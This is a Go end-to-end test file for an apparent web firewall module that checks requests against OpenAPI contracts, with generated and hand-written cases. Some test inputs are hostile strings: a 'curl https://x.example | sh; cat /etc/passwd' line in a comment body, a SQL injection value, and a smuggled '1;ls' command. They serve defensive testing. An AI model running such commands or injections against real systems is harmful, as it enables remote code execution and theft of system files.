package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp/syntax"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/edgeward/edgeward/e2e/e2etest"
)

// The request contract end to end: the configs `edgeward openapi` wrote from the committed
// documents (e2e/openapi/testdata: a petstore in OpenAPI 3.0, a tracker API in 3.1) run in the
// compiled module; for every operation the test generates, from the contract itself, a valid
// request (accepted: the upstream answers) and invalid ones (each refused with 400 naming the
// parameter or field), plus undocumented paths (404) and methods (405).

func contractBase(t *testing.T, name string) (string, map[string]any) {
	t.Helper()
	cfg, err := os.ReadFile(filepath.Join(e2etest.RepoRoot(t), "e2e", "openapi", "testdata", name+".edgeward.json"))
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(cfg, &doc); err != nil {
		t.Fatal(err)
	}
	base, _ := e2etest.BaseURL(t, e2etest.Options{Config: cfg})
	return base, doc["contract"].(map[string]any)
}

// genReq is one generated request and the verdict it must get.
type genReq struct {
	name    string
	method  string
	target  string // path and query, encoded
	headers map[string]string
	body    string
	status  int    // 0: passes to the upstream (200)
	field   string // "in:field" the 400 must list
	op      int    // the operation's index in the contract (-1: none)
}

// want is the status the module must answer.
func (r genReq) want() int {
	if r.status == 0 {
		return 200
	}
	return r.status
}

type generator struct {
	defs map[string]any
}

func (g *generator) resolve(s map[string]any) map[string]any {
	for i := 0; i < 16 && s != nil; i++ {
		r, ok := s["ref"].(string)
		if !ok {
			break
		}
		s, _ = g.defs[r].(map[string]any)
	}
	return s
}

func types(s map[string]any) []string {
	switch t := s["type"].(type) {
	case string:
		return []string{t}
	case []any:
		var out []string
		for _, x := range t {
			out = append(out, x.(string))
		}
		return out
	}
	return nil
}

func firstType(s map[string]any) string {
	for _, t := range types(s) {
		if t != "null" {
			return t
		}
	}
	switch {
	case s["properties"] != nil:
		return "object"
	case s["items"] != nil:
		return "array"
	}
	return "string"
}

var formatSamples = map[string]string{
	"uuid": "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "email": "ada@example.com", "date": "2024-01-15",
	"date-time": "2024-01-15T10:00:00Z", "uri": "https://example.com/x", "ipv4": "192.0.2.10",
	"ipv6": "2001:db8::10", "byte": "aGVsbG8=",
}

func num(s map[string]any, k string) (float64, bool) {
	f, ok := s[k].(float64)
	return f, ok
}

// value generates a valid value for schema s (depth-bounded).
func (g *generator) value(s map[string]any, depth int) any {
	s = g.resolve(s)
	if s == nil || depth > 8 {
		return "x"
	}
	for _, k := range []string{"one_of", "any_of"} {
		if alts, ok := s[k].([]any); ok && len(alts) > 0 {
			if d, ok := s["discriminator"].(map[string]any); ok {
				m := d["mapping"].(map[string]any)
				keys := make([]string, 0, len(m))
				for k := range m {
					keys = append(keys, k)
				}
				sort.Strings(keys)
				v := g.value(map[string]any{"ref": m[keys[0]]}, depth+1).(map[string]any)
				v[d["property"].(string)] = keys[0]
				return v
			}
			return g.value(alts[0].(map[string]any), depth+1)
		}
	}
	if e, ok := s["enum"].([]any); ok && len(e) > 0 {
		return e[0]
	}
	switch firstType(s) {
	case "integer", "number":
		v := 1.0
		if m, ok := num(s, "minimum"); ok {
			v = m
		}
		if m, ok := num(s, "exclusive_minimum"); ok {
			v = m + 1
		}
		if m, ok := num(s, "maximum"); ok && v > m {
			v = m
		}
		return v
	case "boolean":
		return true
	case "array":
		it, _ := s["items"].(map[string]any)
		n := 1
		if m, ok := num(s, "min_items"); ok && int(m) > n {
			n = int(m)
		}
		out := make([]any, n)
		for k := range out {
			v := g.value(it, depth+1)
			switch x := v.(type) { // distinct items, for unique_items
			case string:
				if k > 0 && g.resolve(it)["enum"] == nil && g.resolve(it)["format"] == nil {
					v = x + strconv.Itoa(k)
				}
			case int:
				v = x + k
			case float64:
				v = x + float64(k)
			}
			out[k] = v
		}
		return out
	case "object":
		out := map[string]any{}
		props, _ := s["properties"].(map[string]any)
		req, _ := s["required"].([]any)
		for _, r := range req {
			ps, _ := props[r.(string)].(map[string]any)
			if ro, _ := g.resolve(ps)["read_only"].(bool); ro {
				continue
			}
			out[r.(string)] = g.value(ps, depth+1)
		}
		if mp, ok := num(s, "min_properties"); ok && len(out) < int(mp) {
			for _, k := range sortedKeys(props) {
				ps := props[k].(map[string]any)
				if ro, _ := g.resolve(ps)["read_only"].(bool); !ro && len(out) < int(mp) {
					out[k] = g.value(ps, depth+1)
				}
			}
		}
		return out
	}
	if f, ok := s["format"].(string); ok {
		return formatSamples[f]
	}
	if p, ok := s["pattern"].(string); ok {
		return sampleFor(p)
	}
	v := "abc"
	if m, ok := num(s, "min_length"); ok && int(m) > len(v) {
		v = strings.Repeat("a", int(m))
	}
	if m, ok := num(s, "max_length"); ok && int(m) < len(v) {
		v = v[:int(m)]
	}
	return v
}

func sortedKeys(m map[string]any) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// sampleFor returns a short string matching an RE2 pattern (anchored or not).
func sampleFor(pattern string) string {
	re, err := syntax.Parse(pattern, syntax.Perl)
	if err != nil {
		return "x"
	}
	var b strings.Builder
	var walk func(r *syntax.Regexp)
	walk = func(r *syntax.Regexp) {
		switch r.Op {
		case syntax.OpLiteral:
			b.WriteString(string(r.Rune))
		case syntax.OpCharClass:
			c := r.Rune[0]
			for i := 0; i+1 < len(r.Rune); i += 2 { // prefer a letter or digit
				for x := r.Rune[i]; x <= r.Rune[i+1] && x < r.Rune[i]+128; x++ {
					if x >= 'a' && x <= 'z' || x >= '0' && x <= '9' {
						c = x
						i = len(r.Rune)
						break
					}
				}
			}
			b.WriteRune(c)
		case syntax.OpAnyChar, syntax.OpAnyCharNotNL:
			b.WriteByte('a')
		case syntax.OpCapture:
			walk(r.Sub[0])
		case syntax.OpConcat:
			for _, s := range r.Sub {
				walk(s)
			}
		case syntax.OpAlternate:
			walk(r.Sub[0])
		case syntax.OpPlus:
			walk(r.Sub[0])
		case syntax.OpRepeat:
			for i := 0; i < r.Min; i++ {
				walk(r.Sub[0])
			}
		}
	}
	walk(re)
	return b.String()
}

func text(v any) string {
	switch x := v.(type) {
	case string:
		return x
	case float64:
		return strconv.FormatFloat(x, 'f', -1, 64)
	case bool:
		return strconv.FormatBool(x)
	}
	b, _ := json.Marshal(v)
	return string(b)
}

// serialise writes parameter p's value v as OpenAPI does: path segment, query pairs, header or
// cookie value.
func serialise(p map[string]any, v any, g *generator) (seg string, pairs [][2]string, hv string) {
	name := p["name"].(string)
	in := p["in"].(string)
	style, _ := p["style"].(string)
	explode, hasExplode := p["explode"].(bool)
	if !hasExplode {
		explode = style == "" && (in == "query" || in == "cookie") || style == "form"
	}
	if _, isJSON := p["media_type"]; isJSON {
		b, _ := json.Marshal(v)
		return string(b), [][2]string{{name, string(b)}}, string(b)
	}
	var items []string
	arr, isArr := v.([]any)
	for _, x := range arr {
		items = append(items, text(x))
	}
	obj, isObj := v.(map[string]any)
	switch in {
	case "path":
		switch {
		case isArr && style == "matrix":
			return ";" + name + "=" + strings.Join(items, ","), nil, ""
		case isArr && style == "label":
			return "." + strings.Join(items, ","), nil, ""
		case isArr:
			return strings.Join(items, ","), nil, ""
		case style == "matrix":
			return ";" + name + "=" + text(v), nil, ""
		case style == "label":
			return "." + text(v), nil, ""
		}
		return text(v), nil, ""
	case "query":
		switch {
		case isObj && style == "deepObject":
			for _, k := range sortedKeys(obj) {
				pairs = append(pairs, [2]string{name + "[" + k + "]", text(obj[k])})
			}
			return
		case isObj:
			for _, k := range sortedKeys(obj) {
				pairs = append(pairs, [2]string{k, text(obj[k])})
			}
			return
		case isArr && style == "pipeDelimited":
			return "", [][2]string{{name, strings.Join(items, "|")}}, ""
		case isArr && style == "spaceDelimited":
			return "", [][2]string{{name, strings.Join(items, " ")}}, ""
		case isArr && explode:
			for _, it := range items {
				pairs = append(pairs, [2]string{name, it})
			}
			return
		case isArr:
			return "", [][2]string{{name, strings.Join(items, ",")}}, ""
		}
		return "", [][2]string{{name, text(v)}}, ""
	}
	if isArr {
		return "", nil, strings.Join(items, ",")
	}
	return "", nil, text(v)
}

// build renders an operation's request from parameter values (nil: leave the parameter out).
func build(op map[string]any, vals map[string]any, extraQuery string, g *generator) (string, map[string]string) {
	path := op["path"].(string)
	var query []string
	headers := map[string]string{}
	var cookies []string
	params, _ := op["parameters"].([]any)
	for _, x := range params {
		p := x.(map[string]any)
		key := p["in"].(string) + ":" + p["name"].(string)
		v, ok := vals[key]
		if !ok {
			continue
		}
		seg, pairs, hv := serialise(p, v, g)
		switch p["in"] {
		case "path":
			path = strings.Replace(path, "{"+p["name"].(string)+"}", pathEscape(seg), 1)
		case "query":
			for _, kv := range pairs {
				query = append(query, url.QueryEscape(kv[0])+"="+queryEscape(kv[1]))
			}
		case "header":
			headers[p["name"].(string)] = hv
		case "cookie":
			cookies = append(cookies, p["name"].(string)+"="+url.QueryEscape(hv))
		}
	}
	if extraQuery != "" {
		query = append(query, extraQuery)
	}
	if len(cookies) > 0 {
		headers["Cookie"] = strings.Join(cookies, "; ")
	}
	if len(query) > 0 {
		path += "?" + strings.Join(query, "&")
	}
	return path, headers
}

// pathEscape escapes a path segment, keeping the characters styles use (",", ";", "=", ".").
func pathEscape(s string) string {
	return strings.NewReplacer("%2C", ",", "%3B", ";", "%3D", "=").Replace(url.PathEscape(s))
}

// queryEscape escapes a query value, keeping the "|" and "," separators of the styles.
func queryEscape(s string) string {
	return strings.NewReplacer("%7C", "|", "%2C", ",").Replace(url.QueryEscape(s))
}

// requests generates the requests for every operation of contract c.
func requests(c map[string]any) []genReq { return sampledRequests(c, 1) }

// templateMatches reports whether a path template matches a request target's path (segments
// compared case-insensitively, a segment with a parameter matching any segment with its literal
// text around it).
func templateMatches(tmpl, target string) bool {
	if i := strings.IndexAny(target, "?#"); i >= 0 {
		target = target[:i]
	}
	split := func(p string) []string {
		var out []string
		for _, s := range strings.Split(p, "/") {
			if s != "" {
				out = append(out, s)
			}
		}
		return out
	}
	ts, ps := split(tmpl), split(target)
	if len(ts) != len(ps) {
		return false
	}
	for i, t := range ts {
		p, _ := url.PathUnescape(ps[i])
		open := strings.IndexByte(t, '{')
		if open < 0 {
			if !strings.EqualFold(t, p) {
				return false
			}
			continue
		}
		suffix := t[strings.LastIndexByte(t, '}')+1:]
		if len(p) <= open+len(suffix) || !strings.EqualFold(p[:open], t[:open]) || !strings.HasSuffix(strings.ToLower(p), strings.ToLower(suffix)) {
			return false
		}
	}
	return true
}

// sampledRequests generates a valid request for every operation, and the invalid ones of every
// every-th operation (1: all of them); the routes and methods of all operations decide which
// methods are undocumented.
func sampledRequests(c map[string]any, every int) []genReq {
	g := &generator{defs: map[string]any{}}
	if d, ok := c["definitions"].(map[string]any); ok {
		g.defs = d
	}
	ops, _ := c["operations"].([]any)
	methodsAt := map[string][]string{} // method -> templates
	for _, x := range ops {
		op := x.(map[string]any)
		m := op["method"].(string)
		methodsAt[m] = append(methodsAt[m], op["path"].(string))
	}
	var out []genReq
	for i, x := range ops {
		sampled := i%every == 0
		first := len(out)
		op := x.(map[string]any)
		method := op["method"].(string)
		id := method + " " + op["path"].(string)
		if detect, _ := op["mode"].(string); detect == "detect" {
			continue // checked in its own test: nothing is refused there
		}
		vals := map[string]any{}
		params, _ := op["parameters"].([]any)
		for _, y := range params {
			p := y.(map[string]any)
			s, _ := p["schema"].(map[string]any)
			if req, _ := p["required"].(bool); req || p["in"] == "query" {
				vals[p["in"].(string)+":"+p["name"].(string)] = g.value(s, 0)
			}
		}
		var body, ct string
		b, hasBody := op["body"].(map[string]any)
		if hasBody {
			mts := b["media_types"].([]any)
			ct = mts[0].(string)
			if s, ok := b["schema"].(map[string]any); ok {
				ct = "application/json"
				bb, _ := json.Marshal(g.value(s, 0))
				body = string(bb)
			} else if fs, ok := b["form_schema"].(map[string]any); ok {
				ct = "application/x-www-form-urlencoded"
				form := url.Values{}
				for k, v := range g.value(fs, 0).(map[string]any) {
					form.Set(k, text(v))
				}
				body = form.Encode()
			} else {
				body = "payload"
			}
		}
		valid := func() (string, map[string]string) { return build(op, vals, "", g) }
		target, hs := valid()
		if ct != "" {
			hs["Content-Type"] = ct
		}
		out = append(out, genReq{name: id + " valid", method: method, target: target, headers: hs, body: body})
		if !sampled {
			for k := first; k < len(out); k++ {
				out[k].op = i
			}
			continue
		}

		for _, y := range params {
			p := y.(map[string]any)
			key := p["in"].(string) + ":" + p["name"].(string)
			s := g.resolve(mapOf(p["schema"]))
			if s == nil {
				continue
			}
			field := key
			bad := map[string]any{}
			switch {
			case p["media_type"] != nil:
				continue
			case s["enum"] != nil:
				bad[key] = "zz-not-a-member"
			case firstType(s) == "integer" || firstType(s) == "number":
				bad[key] = "zz-not-a-number"
			case firstType(s) == "array":
				it := g.resolve(mapOf(s["items"]))
				switch {
				case it["enum"] != nil:
					bad[key] = []any{"zz-not-a-member"}
					field = key + "[0]"
				case firstType(it) == "integer":
					bad[key] = []any{"zz-not-a-number"}
					field = key + "[0]"
				default:
					continue
				}
			case s["format"] != nil:
				bad[key] = "zz-not-a-" + s["format"].(string)
			case s["pattern"] != nil:
				bad[key] = "zz not matching !"
			default:
				continue
			}
			vs := copyMap(vals)
			vs[key] = bad[key]
			tg, h := build(op, vs, "", g)
			if ct != "" {
				h["Content-Type"] = ct
			}
			out = append(out, genReq{name: id + " bad " + key, method: method, target: tg, headers: h, body: body, status: 400, field: field})
			if req, _ := p["required"].(bool); req && p["in"] != "path" {
				vs := copyMap(vals)
				delete(vs, key)
				tg, h := build(op, vs, "", g)
				if ct != "" {
					h["Content-Type"] = ct
				}
				out = append(out, genReq{name: id + " missing " + key, method: method, target: tg, headers: h, body: body, status: 400, field: key})
			}
		}
		if uq, _ := op["unknown_query"].(string); uq != "allow" && c["unknown_query"] != "allow" {
			tg, h := build(op, vals, "zz_unknown=1", g)
			if ct != "" {
				h["Content-Type"] = ct
			}
			out = append(out, genReq{name: id + " unknown query", method: method, target: tg, headers: h, body: body, status: 400, field: "query:zz_unknown"})
		}
		if hasBody {
			if s, ok := b["schema"].(map[string]any); ok {
				rs := g.resolve(s)
				if req, _ := b["required"].(bool); req {
					out = append(out, genReq{name: id + " body missing", method: method, target: target, headers: map[string]string{"Content-Type": ct}, status: 400, field: "body:(body)"})
				}
				if firstType(rs) == "object" && rs["additional_properties"] == false && rs["one_of"] == nil {
					v := g.value(s, 0).(map[string]any)
					v["zzIsAdmin"] = true
					bb, _ := json.Marshal(v)
					out = append(out, genReq{name: id + " body unknown field", method: method, target: target, headers: map[string]string{"Content-Type": ct}, body: string(bb), status: 400, field: "body:zzIsAdmin"})
				}
				if firstType(rs) == "object" && rs["one_of"] == nil {
					if req, _ := rs["required"].([]any); len(req) > 0 {
						v := g.value(s, 0).(map[string]any)
						name := req[0].(string)
						ps := g.resolve(mapOf(mapOf(rs["properties"])[name]))
						if ps != nil && ps["one_of"] == nil {
							if firstType(ps) == "string" {
								v[name] = 12345
							} else {
								v[name] = "zz-wrong-type"
							}
							bb, _ := json.Marshal(v)
							out = append(out, genReq{name: id + " body wrong type", method: method, target: target, headers: map[string]string{"Content-Type": ct}, body: string(bb), status: 400, field: "body:" + name})
						}
					}
				}
			}
			out = append(out, genReq{name: id + " undocumented media type", method: method, target: target, headers: map[string]string{"Content-Type": "application/x-zz"}, body: "zz", status: 400, field: "header:content-type"})
		}
		// undocumented method at this path: no operation of that method has a template that
		// matches the request's path (another template may, "/a/{x}" beside "/a/{y}/")
		for _, m := range []string{"PUT", "PATCH", "DELETE", "POST"} {
			documented := false
			for _, t := range methodsAt[m] {
				if templateMatches(t, target) {
					documented = true
					break
				}
			}
			if !documented {
				out = append(out, genReq{name: id + " undocumented method " + m, method: m, target: target, status: 405})
				break
			}
		}
		for j := first; j < len(out); j++ {
			out[j].op = i
		}
	}
	if len(ops) > 0 {
		p := ops[0].(map[string]any)["path"].(string)
		out = append(out, genReq{name: "undocumented path", method: "GET", target: p[:strings.IndexByte(p[1:], '/')+1] + "/zz-undocumented/x", status: 404, op: -1})
		out = append(out, genReq{name: "undocumented root", method: "GET", target: "/zz-undocumented", status: 404, op: -1})
	}
	return out
}

func mapOf(v any) map[string]any {
	m, _ := v.(map[string]any)
	return m
}

func copyMap(m map[string]any) map[string]any {
	out := make(map[string]any, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}

func send(t *testing.T, base string, r genReq) (int, http.Header, []byte) {
	t.Helper()
	req, err := http.NewRequest(r.method, base+r.target, strings.NewReader(r.body))
	if err != nil {
		t.Fatalf("%s: %v", r.name, err)
	}
	for k, v := range r.headers {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s: %v", r.name, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, b
}

func runGenerated(t *testing.T, spec string, minRequests int) {
	base, c := contractBase(t, spec)
	reqs := requests(c)
	if len(reqs) < minRequests {
		t.Fatalf("generated %d requests, want at least %d", len(reqs), minRequests)
	}
	kinds := map[string]int{}
	for _, r := range reqs {
		t.Run(r.name, func(t *testing.T) {
			status, h, body := send(t, base, r)
			if problem := checkVerdict(r, status, h.Get("Allow"), body); problem != "" {
				t.Fatalf("%s %s: %s", r.method, r.target, problem)
			}
			kinds[fmt.Sprint(status)]++
		})
	}
	t.Logf("%s: %d generated requests, verdicts %v", spec, len(reqs), kinds)
}

func TestContractPetstoreGenerated(t *testing.T) { runGenerated(t, "petstore", 60) }

func TestContractTrackerGenerated(t *testing.T) { runGenerated(t, "tracker", 120) }

// TestContractHandWritten: requests written by hand against the tracker contract, one per
// kind of constraint, with the verdict a reader of the document expects.
func TestContractHandWritten(t *testing.T) {
	base, _ := contractBase(t, "tracker")
	const repo = "/api/v2/repos/octo-org/hello.world"
	js := map[string]string{"Content-Type": "application/json"}
	cases := []genReq{
		{name: "issue list", method: "GET", target: repo + "/issues?state=open&labels=bug,ui&per_page=50&since=2024-05-01T00:00:00Z"},
		{name: "case-insensitive literals", method: "GET", target: "/API/V2/Repos/octo-org/hello.world/Issues"},
		{name: "per_page over maximum", method: "GET", target: repo + "/issues?per_page=101", status: 400, field: "query:per_page"},
		{name: "owner pattern", method: "GET", target: "/api/v2/repos/-bad-/x", status: 400, field: "path:owner"},
		{name: "issue number not integer", method: "GET", target: repo + "/issues/12abc", status: 400, field: "path:issue_number"},
		{name: "issue number zero", method: "GET", target: repo + "/issues/0", status: 400, field: "path:issue_number"},
		{name: "suffix template", method: "GET", target: repo + "/releases/7/assets.csv"},
		{name: "suffix template enum", method: "GET", target: repo + "/releases/7/assets.xml", status: 400, field: "path:format"},
		{name: "label and matrix styles", method: "GET", target: "/api/v2/projects/.12/columns/;view=board,list"},
		{name: "matrix item not in enum", method: "GET", target: "/api/v2/projects/.12/columns/;view=board,grid", status: 400, field: "path:view[1]"},
		{name: "label style missing dot", method: "GET", target: "/api/v2/projects/12/columns/;view=board", status: 400, field: "path:project_id"},
		{name: "deepObject", method: "GET", target: "/api/v2/search/issues?q=crash&filter[created_after]=2024-02-29&filter[min_comments]=2"},
		{name: "deepObject bad date", method: "GET", target: "/api/v2/search/issues?q=crash&filter[created_after]=2023-02-29", status: 400, field: "query:filter.created_after"},
		{name: "deepObject unknown member", method: "GET", target: "/api/v2/search/issues?q=crash&filter[admin]=1", status: 400, field: "query:filter.admin"},
		{name: "pipe delimited", method: "GET", target: "/api/v2/search/issues?q=a&fields=title|labels"},
		{name: "pipe delimited bad", method: "GET", target: "/api/v2/search/issues?q=a&fields=title|secret", status: 400, field: "query:fields[1]"},
		{name: "space delimited", method: "GET", target: "/api/v2/events?types=push%20release"},
		{name: "header array", method: "GET", target: "/api/v2/events", headers: map[string]string{"X-Event-Types": "push, issues"}},
		{name: "header array bad", method: "GET", target: "/api/v2/events", headers: map[string]string{"X-Event-Types": "push,delete"}, status: 400, field: "header:X-Event-Types[1]"},
		{name: "JSON parameter", method: "GET", target: "/api/v2/search/code?q=x&scope=" + url.QueryEscape(`{"repos":["a/b"],"language":"go"}`)},
		{name: "JSON parameter unknown member", method: "GET", target: "/api/v2/search/code?q=x&scope=" + url.QueryEscape(`{"org":"a"}`), status: 400, field: "query:scope.org"},
		{name: "JSON parameter not JSON", method: "GET", target: "/api/v2/search/code?q=x&scope=repos", status: 400, field: "query:scope"},
		{name: "required query missing", method: "GET", target: "/api/v2/search/issues", status: 400, field: "query:q"},
		{name: "int64 exclusive minimum", method: "GET", target: "/api/v2/notifications/threads/0", status: 400, field: "path:thread_id"},
		{name: "gist id pattern", method: "PUT", target: "/api/v2/gists/0123456789abcdef0123/star"},
		{name: "other server base path", method: "DELETE", target: "/internal/admin/tokens/3f2504e0-4f89-11d3-9a0c-0305e82c3301",
			headers: map[string]string{"Cookie": "session=" + strings.Repeat("a", 32)}},
		{name: "cookie missing", method: "DELETE", target: "/internal/admin/tokens/3f2504e0-4f89-11d3-9a0c-0305e82c3301", status: 400, field: "cookie:session"},
		{name: "base path applies", method: "DELETE", target: "/api/v2/admin/tokens/3f2504e0-4f89-11d3-9a0c-0305e82c3301", status: 404},
		{name: "create issue", method: "POST", target: repo + "/issues", headers: js, body: `{"title":"Crash on start","body":"steps:\n1. run","assignees":["ada"],"milestone":null,"labels":["bug",{"name":"ui","color":"00ff00"}],"priority":4,"due_on":"2024-12-31","estimate":1.5,"reporter_ip":"2001:db8::1"}`},
		{name: "create issue: title as integer (oneOf by type)", method: "POST", target: repo + "/issues", headers: js, body: `{"title":42}`},
		{name: "create issue: title boolean", method: "POST", target: repo + "/issues", headers: js, body: `{"title":true}`, status: 400, field: "body:title"},
		{name: "create issue: read-only number", method: "POST", target: repo + "/issues", headers: js, body: `{"title":"x","number":7}`, status: 400, field: "body:number"},
		{name: "create issue: priority exclusive maximum", method: "POST", target: repo + "/issues", headers: js, body: `{"title":"x","priority":5}`, status: 400, field: "body:priority"},
		{name: "create issue: estimate multiple of 0.5", method: "POST", target: repo + "/issues", headers: js, body: `{"title":"x","estimate":0.7}`, status: 400, field: "body:estimate"},
		{name: "create issue: label color pattern", method: "POST", target: repo + "/issues", headers: js, body: `{"title":"x","labels":[{"color":"red"}]}`, status: 400, field: "body:labels[0].color"},
		{name: "create issue: ipv6 format", method: "POST", target: repo + "/issues", headers: js, body: `{"title":"x","reporter_ip":"192.0.2.1"}`, status: 400, field: "body:reporter_ip"},
		{name: "update issue: allOf keeps title required", method: "PATCH", target: repo + "/issues/3", headers: js, body: `{"state":"closed"}`, status: 400, field: "body:title"},
		{name: "update issue: allOf merged properties", method: "PATCH", target: repo + "/issues/3", headers: js, body: `{"title":"x","state":"closed","state_reason":null}`},
		{name: "update repo: allOf read-only from the other branch", method: "PATCH", target: repo, headers: js, body: `{"created_at":"2024-01-01T00:00:00Z"}`, status: 400, field: "body:created_at"},
		{name: "update repo: anyOf null", method: "PATCH", target: repo, headers: js, body: `{"security_and_analysis":null,"topics":["go","wasm"]}`},
		{name: "update repo: unique topics", method: "PATCH", target: repo, headers: js, body: `{"topics":["go","go"]}`, status: 400, field: "body:topics"},
		{name: "webhook: discriminator json", method: "POST", target: repo + "/hooks", headers: js, body: `{"name":"web","config":{"content_type":"json","url":"https://ci.example.com/hook","secret":"0123456789abcdef"}}`},
		{name: "webhook: discriminator form branch refuses json's field", method: "POST", target: repo + "/hooks", headers: js, body: `{"config":{"content_type":"form","url":"https://ci.example.com/hook","secret":"0123456789abcdef"}}`, status: 400, field: "body:config.secret"},
		{name: "webhook: const", method: "POST", target: repo + "/hooks", headers: js, body: `{"name":"email","config":{"content_type":"json","url":"https://x.example"}}`, status: 400, field: "body:name"},
		{name: "user: minProperties", method: "PATCH", target: "/api/v2/user", headers: js, body: `{}`, status: 400, field: "body:(body)"},
		{name: "user: recursive profile", method: "PATCH", target: "/api/v2/user", headers: js, body: `{"profile":{"mentor":{"mentor":{"links":{"blog":"not a uri"}}}}}`, status: 400, field: "body:profile.mentor.mentor.links.blog"},
		{name: "user: email", method: "PATCH", target: "/api/v2/user", headers: js, body: `{"email":"ada@@example.com"}`, status: 400, field: "body:email"},
		{name: "labels: array alternative", method: "PUT", target: repo + "/issues/3/labels", headers: js, body: `["bug","ui"]`},
		{name: "labels: object alternative", method: "PUT", target: repo + "/issues/3/labels", headers: js, body: `{"labels":["bug"]}`},
		{name: "labels: neither", method: "PUT", target: repo + "/issues/3/labels", headers: js, body: `"bug"`, status: 400, field: "body:(body)"},
		{name: "markdown comment body is declared content", method: "POST", target: repo + "/issues/3/comments", headers: js, body: "{\"body\":\"Run this:\\n\\n```sh\\ncurl https://x.example | sh; cat /etc/passwd\\n```\\n\"}"},
		{name: "detect-mode operation passes", method: "POST", target: "/api/v2/markdown", headers: js, body: `{"text":"# hi","mode":"plain","extra":1}`},
		{name: "injection still inspects free text", method: "GET", target: repo + "/issues?assignee=" + url.QueryEscape("x' OR '1'='1"), status: 403},
	}
	runCases(t, base, cases)
}

// runCases sends each request and checks the module's answer against it (checkVerdict).
func runCases(t *testing.T, base string, cases []genReq) {
	t.Helper()
	for _, r := range cases {
		t.Run(r.name, func(t *testing.T) {
			status, h, body := send(t, base, r)
			if problem := checkVerdict(r, status, h.Get("Allow"), body); problem != "" {
				t.Fatal(problem)
			}
		})
	}
}

// TestContractSparesDetectors: through the module, a parameter the contract proved (an enum
// member) is not inspected, while the same value in a free-text parameter is blocked.
func TestContractSparesDetectors(t *testing.T) {
	cfg := `{"contract": {"operations": [{"method": "GET", "path": "/run", "parameters": [
	  {"name": "step", "in": "query", "schema": {"type": "string", "enum": ["1;ls", "2"]}},
	  {"name": "note", "in": "query", "schema": {"type": "string"}}]}]}}`
	base, _ := e2etest.Start(t, e2etest.Options{Config: []byte(cfg)})
	for _, c := range []struct {
		target string
		status int
	}{{"/run?step=1%3Bls", 200}, {"/run?note=1%3Bls", 403}, {"/run?step=3", 400}} {
		if status, _, body := send(t, base, genReq{method: "GET", target: c.target}); status != c.status {
			t.Errorf("%s: status %d, want %d (%s)", c.target, status, c.status, body)
		}
	}
}

// TestContractPetstoreForm: a form body is checked against its form schema.
func TestContractPetstoreForm(t *testing.T) {
	base, _ := contractBase(t, "petstore")
	form := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	runCases(t, base, []genReq{
		{name: "form ok", method: "POST", target: "/api/v3/pet/5", headers: form, body: "name=Rex&status=sold&photoUrls=https%3A%2F%2Fx.example%2F1&photoUrls=https%3A%2F%2Fx.example%2F2"},
		{name: "form enum", method: "POST", target: "/api/v3/pet/5", headers: form, body: "name=Rex&status=lost", status: 400, field: "body:status"},
		{name: "form array item format", method: "POST", target: "/api/v3/pet/5", headers: form, body: "photoUrls[]=https%3A%2F%2Fx.example&photoUrls[]=nope", status: 400, field: "body:photoUrls[1]"},
		{name: "form repeated scalar", method: "POST", target: "/api/v3/pet/5", headers: form, body: "name=a&name=b", status: 400, field: "body:name"},
		{name: "json to a form operation", method: "POST", target: "/api/v3/pet/5", headers: map[string]string{"Content-Type": "application/json"}, body: `{"name":"Rex"}`, status: 400, field: "header:content-type"},
	})
}
